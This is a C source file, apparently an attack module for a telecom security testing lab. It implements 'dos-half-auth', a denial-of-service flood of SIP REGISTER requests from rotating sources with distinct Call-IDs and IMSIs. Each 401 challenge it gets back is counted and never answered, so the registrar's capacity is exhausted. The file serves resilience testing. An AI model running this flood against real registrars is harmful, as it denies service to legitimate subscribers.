/* dos-half-auth - registrations that are begun, challenged, and never answered. */
#include <stdlib.h>

#include "lab/attacker/flood.h"
#include "lab/attacker/harm.h"
#include "lab/base/memory.h"

typedef struct {
  RdFloodAim aim;
  double rate;
  int64_t sources;
} Config;

static const RdParam params[] = {
    RD_PARAM(Config, "rate", RD_NUMBER, rate, "60", 0.001, 1e6, "1/s",
             "REGISTERs a second, of all sources: below what would load the registrar."),
    RD_PARAM(Config, "sources", RD_INTEGER, sources, "50", 1, 65536, "",
             "Addresses that take turns."),
    RD_FLOOD_ROWS(Config, "1"), RD_PARAM_END};

typedef struct {
  RdFlood *flood;
  uint32_t challenges;
} HalfAuth;

static uint64_t entities(const void *config) {
  return (uint64_t)((const Config *)config)->sources;
}

static void *open_half_auth(RdHost *host, const void *config, const RdActorSetup *setup) {
  const Config *c = config;
  RdFlood *f = rd_flood_new(host, setup, &c->aim, c->rate / (double)setup->entities, RD_PACE_EVEN);
  if (!f)
    return NULL;
  HalfAuth *h = rd_alloc(sizeof *h);
  *h = (HalfAuth){f, host->counter(host, "challenges-taken")};
  return h;
}

static void start(void *self) {
  rd_flood_start(((HalfAuth *)self)->flood);
}

/* The 401 is what it came for: the registrar now waits. */
static void receive(void *self, const RdMessage *m) {
  const HalfAuth *h = self;
  RdHost *host = h->flood->probe.host;
  rd_flood_receive(h->flood, m);
  if (m->kind == RD_DATA && m->sip && !m->sip->is_request && m->sip->status == 401)
    host->count(host, h->challenges, 1);
}

/* Each with a Call-ID of its own, so each is a challenge of its own. */
static void timer(void *self, RdTimer id, uint64_t source) {
  RdFlood *f = ((HalfAuth *)self)->flood;
  char imsi[RD_IMSI_TEXT];
  (void)id;
  const uint64_t number = rd_pace_tick(f->pace, source);
  rd_flood_victim(f, source, number, imsi);
  rd_flood_count(f, rd_probe_register(&f->probe, source, number, imsi, f->aim->realm));
}

static void stop(void *self) {
  rd_flood_stop(((HalfAuth *)self)->flood);
}

static void close_half_auth(void *self) {
  rd_flood_close(((HalfAuth *)self)->flood);
  free(self);
}

static void success(const RdEvidence *evidence, const void *config, RdSuccess *ret) {
  rd_harm_to(evidence, RD_ATTEMPT_REGISTER, ((const RdFloodAim *)config)->threshold, ret);
}

RD_PART(RD_ATTACK, "dos-half-auth",
        "Registrations that are challenged and never answered, until there is no room for others.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_half_auth, .start = start, .receive = receive, .timer = timer,
                     .stop = stop, .close = close_half_auth, .entities = entities,
                     .success = success),
        .interface = RD_IF_GM, .family = "dos");
